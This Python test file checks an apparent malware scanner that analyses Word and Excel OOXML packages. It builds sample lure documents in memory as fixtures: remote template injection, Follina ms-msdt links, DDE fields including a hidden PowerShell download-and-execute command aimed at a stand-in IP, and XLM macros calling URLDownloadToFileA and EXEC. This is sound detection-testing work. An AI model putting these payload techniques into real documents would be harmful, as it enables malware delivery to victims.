"""OOXML package analysis on small packages built in memory."""

from __future__ import annotations

import io
import struct
import zipfile

from aptcatch.capture.engine import Scanner
from aptcatch.capture.formats import ooxml_xlsb
from aptcatch.capture.formats.ooxml_dde import dde_from_field
from aptcatch.capture.formats.ooxml_rels import unc_host
from tests.capture.formats.ooxml_helpers import W, details, docx, ids, indicator_values, rels, xlsx

SETTINGS = f'<?xml version="1.0"?><w:settings {W}/>'


def _template_doc(target: str) -> bytes:
    return docx(
        extra={
            "word/settings.xml": SETTINGS,
            "word/_rels/settings.xml.rels": rels(("rId1", "attachedTemplate", target, True)),
            "docProps/app.xml": '<Properties xmlns="http://schemas.openxmlformats.org/officeDocument/2006/'
            'extended-properties"><Template>invoice.dotm</Template><Company>ACME</Company></Properties>',
        }
    )


def test_remote_template_http(scanner: Scanner) -> None:
    r = scanner.scan_bytes(_template_doc("https://evil.example.ru/t/invoice.dotm"), name="a.docx")
    assert "ooxml.remote_template" in ids(r)
    assert "ooxml.unc_forced_auth" not in ids(r)
    assert "https://evil.example.ru/t/invoice.dotm" in indicator_values(r)
    assert "evil.example.ru" in indicator_values(r)
    assert "invoice.dotm" in details(r, "ooxml.remote_template")[0]  # app.xml template detail
    assert r.verdict == "malicious"
    assert r.artifact.metadata["company"] == "ACME"


def test_remote_template_unc_adds_forced_auth(scanner: Scanner) -> None:
    r = scanner.scan_bytes(_template_doc("\\\\203.0.113.9@SSL\\share\\t.dotm"), name="a.docx")
    assert {"ooxml.remote_template", "ooxml.unc_forced_auth"} <= ids(r)
    assert "203.0.113.9" in indicator_values(r)
    assert "T1187" in r.techniques


def test_local_template_is_not_injection(scanner: Scanner) -> None:
    r = scanner.scan_bytes(_template_doc("file:///C:\\Users\\bob\\Templates\\Normal.dotm"), name="a.docx")
    assert "ooxml.remote_template" not in ids(r)
    assert r.artifact.metadata["attached_template"].endswith("Normal.dotm")


def test_unc_host_forms() -> None:
    assert unc_host("\\\\host.example.com\\s\\x") == "host.example.com"
    assert unc_host("file://10.1.2.3/share/x.dotm") == "10.1.2.3"
    assert unc_host("file:///C:/x.dotm") is None
    assert unc_host("https://x.example.com/") is None


def test_external_oleobject_mhtml_and_follina(scanner: Scanner) -> None:
    data = docx(
        extra={
            "word/_rels/document.xml.rels": rels(
                ("rId5", "oleObject", "http://198.51.100.4/page.html!", True),
                (
                    "rId6",
                    "oleObject",
                    "mhtml:http://x.example.com/a.html!x-usc:http://x.example.com/a.html",
                    True,
                ),
                (
                    "rId7",
                    "hyperlink",
                    "ms-msdt:/id PCWDiagnostic /skip force /param IT_BrowseForFile=x",
                    True,
                ),
            )
        }
    )
    r = scanner.scan_bytes(data, name="f.docx")
    assert {"ooxml.external_oleobject", "ooxml.mhtml_target", "ooxml.follina"} <= ids(r)
    assert {"CVE-2017-0199", "CVE-2021-40444", "CVE-2022-30190"} <= {c.id for c in r.cves}
    assert "Follina" in details(r, "ooxml.external_oleobject")[0]


def test_plain_hyperlink_is_info_only(scanner: Scanner) -> None:
    data = docx(
        extra={
            "word/_rels/document.xml.rels": rels(
                ("rId9", "hyperlink", "https://portal.kz-gov-news.com/x", True)
            )
        }
    )
    r = scanner.scan_bytes(data, name="h.docx")
    assert ids(r) == {"ooxml.external_hyperlink"}
    assert r.verdict == "clean"
    assert "https://portal.kz-gov-news.com/x" in indicator_values(r)


def test_dde_split_runs_and_fldsimple(scanner: Scanner) -> None:
    body = (
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        "<w:r><w:instrText>DDEA</w:instrText></w:r><w:r><w:instrText>UTO c:\\\\Windows\\\\System32\\\\"
        'cmd.exe "/k powershell -w hidden -c iex(iwr http://203.0.113.7/p)"</w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>x</w:t></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
        '<w:p><w:fldSimple w:instr=" DDE notepad.exe &quot;a&quot; "/></w:p>'
    )
    r = scanner.scan_bytes(docx(body), name="d.docx")
    assert "ooxml" in {f.source for f in r.findings}
    cmd = details(r, "dde.command")
    assert cmd and "cmd.exe /k powershell" in cmd[0]
    assert any("notepad.exe" in d for d in details(r, "dde.link"))
    assert "203.0.113.7" in indicator_values(r)


def test_dde_built_from_nested_quote_field(scanner: Scanner) -> None:
    codes = " ".join(str(ord(c)) for c in "DDEAUTO")
    body = (
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        f"<w:r><w:instrText>QUOTE {codes}</w:instrText></w:r>"
        '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>DDEAUTO</w:t></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
        '<w:r><w:instrText> c:\\\\windows\\\\system32\\\\cmd.exe "/c calc"</w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )
    r = scanner.scan_bytes(docx(body), name="q.docx")
    assert "dde.command" in ids(r)


def test_dde_field_parser() -> None:
    assert dde_from_field('DDEAUTO c:\\\\windows\\\\cmd.exe "/c calc" \\h') == (
        "DDEAUTO",
        "c:\\windows\\cmd.exe /c calc",
    )
    assert dde_from_field(" HYPERLINK x") is None


def test_macro_children_activex_embeddings_text_meta(scanner: Scanner) -> None:
    ole = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600
    extra: dict[str, str | bytes] = {
        "word/vbaProject.bin": ole,
        "word/vbaProjectSignature.bin": b"sig",
        "word/activeX/activeX1.xml": '<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" '
        'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" '
        'ax:classid="{8BD21D40-EC42-11CE-9E0D-00AA006002F3}" r:id="rId1"/>',
        "word/activeX/_rels/activeX1.xml.rels": rels(("rId1", "activeXControlBinary", "activeX1.bin", False)),
        "word/activeX/activeX1.bin": b"\x01\x02" * 40,
        "word/embeddings/oleObject1.bin": ole,
        "word/media/evil.exe": b"MZ" + b"\0" * 200,
        "customUI/customUI.xml": '<customUI xmlns="http://schemas.microsoft.com/office/2006/01/customui" '
        'onLoad="Ribbon_Load"/>',
        "docProps/core.xml": '<cp:coreProperties xmlns:cp="http://schemas.openxmlformats.org/package/2006/'
        'metadata/core-properties" xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:creator>Ivan</dc:creator>'
        "<cp:lastModifiedBy>Petr</cp:lastModifiedBy></cp:coreProperties>",
    }
    body = "<w:p><w:r><w:t>Enable content</w:t></w:r><w:r><w:tab/><w:t>to view</w:t></w:r></w:p>"
    r = scanner.scan_bytes(docx(body, extra=extra, macro=True), name="m.docm")
    names = {c.name: c for c in r.artifact.children}
    assert "word/vbaProject.bin" in names
    assert (
        names["word/activeX/activeX1.bin"].metadata["activex_clsid"] == "8BD21D40-EC42-11CE-9E0D-00AA006002F3"
    )
    assert "word/embeddings/oleObject1.bin" in names
    assert "word/media/evil.exe" in names
    assert {
        "ooxml.macro_enabled",
        "ooxml.activex",
        "ooxml.embedded_object",
        "ooxml.unexpected_part",
        "ooxml.customui_callback",
    } <= ids(r)
    meta = r.artifact.metadata
    assert meta["author"] == "Ivan" and meta["last_saved_by"] == "Petr"
    assert meta["vba_signature_parts"] == ["word/vbaProjectSignature.bin"]
    assert r.lure.excerpt is not None and "Enable content to view" in " ".join(r.lure.excerpt.split())


def test_doctype_is_refused(scanner: Scanner) -> None:
    bomb = (
        '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;">]>'
        f"<w:document {W}><w:body><w:p><w:r><w:t>&b;</w:t></w:r></w:p></w:body></w:document>"
    )
    r = scanner.scan_bytes(docx(extra={"word/document.xml": bomb}), name="b.docx")
    assert "ooxml.doctype" in ids(r)
    assert any("DTD" in e.message for e in r.artifact.errors)


def test_malformed_zip_and_xml_do_not_crash(scanner: Scanner) -> None:
    good = docx()
    r = scanner.scan_bytes(good[: len(good) // 2], name="cut.docx")
    assert r.artifact is not None
    r = scanner.scan_bytes(docx(extra={"word/document.xml": "<w:document <<<"}), name="bad.docx")
    assert any(e.kind == "parse" and "malformed" in e.message for e in r.artifact.errors)


def _macrosheet(cells: str) -> str:
    return (
        '<xm:macrosheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
        f'xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main"><sheetData>{cells}</sheetData>'
        "</xm:macrosheet>"
    )


def _workbook(state: str, name: str = "_xlnm.Auto_Open") -> str:
    return (
        '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
        'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets>'
        '<sheet name="Sheet1" sheetId="1" r:id="rId1"/>'
        f'<sheet name="M1" sheetId="2" state="{state}" r:id="rId2"/></sheets>'
        f'<definedNames><definedName name="{name}" hidden="1">M1!$A$1</definedName></definedNames></workbook>'
    )


WB_RELS = (
    '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet"'
    ' Target="worksheets/sheet1.xml"/><Relationship Id="rId2" '
    'Type="http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet" '
    'Target="macrosheets/sheet1.xml"/>'
    "</Relationships>"
)


def test_xlm_hidden_auto_open_exec_register(scanner: Scanner) -> None:
    chars = "&amp;".join(f"CHAR({ord(c)})" for c in "http://203.0.113.8/a.dll")
    cells = (
        '<row r="1"><c r="A1"><f>REGISTER("urlmon","URLDownloadToFileA","JJCCJJ","dl")</f></c></row>'
        f'<row r="2"><c r="A2"><f>FORMULA.FILL({chars},B1)</f></c></row>'
        '<row r="3"><c r="A3"><f>EXEC("rundll32 a.dll,Start")</f></c><c r="A4"><f>RUN(B1)</f></c></row>'
        '<row r="4"><c r="A5"><f>GET.WORKSPACE(1)</f></c><c r="A6"><f>HALT()</f></c></row>'
    )
    data = xlsx(
        {
            "xl/workbook.xml": _workbook("veryHidden", "_xlnm.Auto_openX1"),
            "xl/_rels/workbook.xml.rels": WB_RELS,
            "xl/macrosheets/sheet1.xml": _macrosheet(cells),
        }
    )
    r = scanner.scan_bytes(data, name="z.xlsm")
    assert {
        "xlm.macrosheet",
        "xlm.auto_open",
        "xlm.hidden_auto_open",
        "xlm.hidden_sheet",
        "xlm.exec",
        "xlm.native_api",
        "xlm.download",
        "xlm.char_obfuscation",
        "xlm.environment_checks",
        "xlm.self_modifying",
    } <= ids(r)
    assert "http://203.0.113.8/a.dll" in indicator_values(r)  # CHAR() folding
    assert r.verdict == "malicious"


def test_xlsx_dde_link_and_cell_formula(scanner: Scanner) -> None:
    data = xlsx(
        {
            "xl/workbook.xml": _workbook("visible", "Print_Area"),
            "xl/externalLinks/externalLink1.xml": '<externalLink xmlns="http://schemas.openxmlformats.org/'
            'spreadsheetml/2006/main"><ddeLink ddeService="cmd" ddeTopic="/c calc.exe"/></externalLink>',
            "xl/worksheets/sheet1.xml": "<worksheet><sheetData><row><c><f>MSEXCEL|&apos;\\..\\..\\Windows\\"
            "System32\\mshta.exe http://203.0.113.2/x&apos;!&apos;&apos;</f></c></row></sheetData></worksheet>",
        },
        macro=False,
    )
    r = scanner.scan_bytes(data, name="d.xlsx")
    cmd = details(r, "dde.command")
    assert any("cmd /c calc.exe" in d for d in cmd)
    assert any("mshta.exe" in d for d in cmd)
    assert "xlm.auto_open" not in ids(r)


def _rec(rtype: int, payload: bytes) -> bytes:
    out = bytearray()
    if rtype >= 0x80:
        out += bytes([(rtype & 0x7F) | 0x80, rtype >> 7])
    else:
        out.append(rtype)
    size = len(payload)
    while True:
        b = size & 0x7F
        size >>= 7
        out.append(b | (0x80 if size else 0))
        if not size:
            break
    return bytes(out) + payload


def _ws(s: str) -> bytes:
    return struct.pack("<I", len(s)) + s.encode("utf-16-le")


def test_biff12_formula_decoding() -> None:
    text = "cmd /c calc"
    rgce = (
        b"\x17" + struct.pack("<H", len(text)) + text.encode("utf-16-le")  # PtgStr
        + b"\x42\x01" + struct.pack("<H", 0x006E)  # PtgFuncVar EXEC, 1 arg
    )  # fmt: skip
    cell = struct.pack("<II", 2, 0) + b"\x00" + b"\x00\x00" + struct.pack("<I", len(rgce)) + rgce
    sheet = _rec(0x00, struct.pack("<I", 4) + b"\0" * 8) + _rec(0x0A, cell + b"\0\0\0\0")
    cells = ooxml_xlsb.sheet_cells(sheet)
    assert cells == [ooxml_xlsb.Cell("C5", '=EXEC("cmd /c calc")', None)]
    chars = b"\x1e\x41\x00\x41\x6f\x00" + b"\x1e\x42\x00\x41\x6f\x00" + b"\x08"  # CHAR(65)&CHAR(66)
    assert ooxml_xlsb.decode_formula(chars) == "=CHAR(65)&CHAR(66)"
    assert ooxml_xlsb.decode_formula(b"\x1e\x01\x00\xee") == "=1 …"  # unknown token stops quietly


def test_xlsb_workbook_entries_and_supbook() -> None:
    bundle = struct.pack("<II", 2, 1) + _ws("rId2") + _ws("Macro1")
    name = struct.pack("<I", 0x20) + b"\0" + b"\xff\xff\xff\xff" + _ws("Auto_Open")
    wb = _rec(0x9C, bundle) + _rec(0x27, name + b"\0" * 8)
    sheets, names = ooxml_xlsb.workbook_entries(wb)
    assert sheets == [ooxml_xlsb.SheetEntry("Macro1", "rId2", "veryHidden")]
    assert names == ["Auto_Open"]
    sup = _rec(0x168, struct.pack("<H", 1) + _ws("cmd") + _ws("/c calc"))
    assert ooxml_xlsb.sup_books(sup) == [(1, ["cmd", "/c calc"])]
    assert ooxml_xlsb.col_name(0) == "A" and ooxml_xlsb.col_name(27) == "AB"


def test_flash_activex(scanner: Scanner) -> None:
    swf_body = b"...http://203.0.113.50/drm.php..." + b"\0" * 40
    swf = b"FWS\x0a" + struct.pack("<I", 8 + len(swf_body)) + swf_body
    extra: dict[str, str | bytes] = {
        "xl/workbook.xml": _workbook("visible", "Print_Area"),
        "xl/activeX/activeX1.xml": '<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" '
        'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" '
        'ax:classid="{D27CDB6E-AE6D-11CF-96B8-444553540000}" r:id="rId1"/>',
        "xl/activeX/_rels/activeX1.xml.rels": rels(("rId1", "activeXControlBinary", "activeX1.bin", False)),
        "xl/activeX/activeX1.bin": b"\x6e\xdb\x7c\xd2" + b"\0" * 16 + swf,
    }
    r = scanner.scan_bytes(xlsx(extra, macro=False), name="f.xlsx")
    assert "ooxml.activex_flash" in ids(r)
    assert "http://203.0.113.50/drm.php" in indicator_values(r)
    assert any(c.name.endswith(":swf") for c in r.artifact.children[0].children + r.artifact.children)


def test_encrypted_member_is_reported(scanner: Scanner) -> None:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        zf.writestr("[Content_Types].xml", "<Types/>")
        zf.writestr("word/document.xml", "<x/>")
    raw = bytearray(buf.getvalue())
    # set the "encrypted" flag bit on every header of word/document.xml
    for sig in (b"PK\x03\x04", b"PK\x01\x02"):
        pos = 0
        while (pos := raw.find(sig, pos)) >= 0:
            flag_at = pos + (6 if sig == b"PK\x03\x04" else 8)
            raw[flag_at] |= 1
            pos += 4
    r = Scanner().scan_bytes(bytes(raw), name="enc.docx")
    assert any(e.kind == "encrypted" for e in r.artifact.errors)
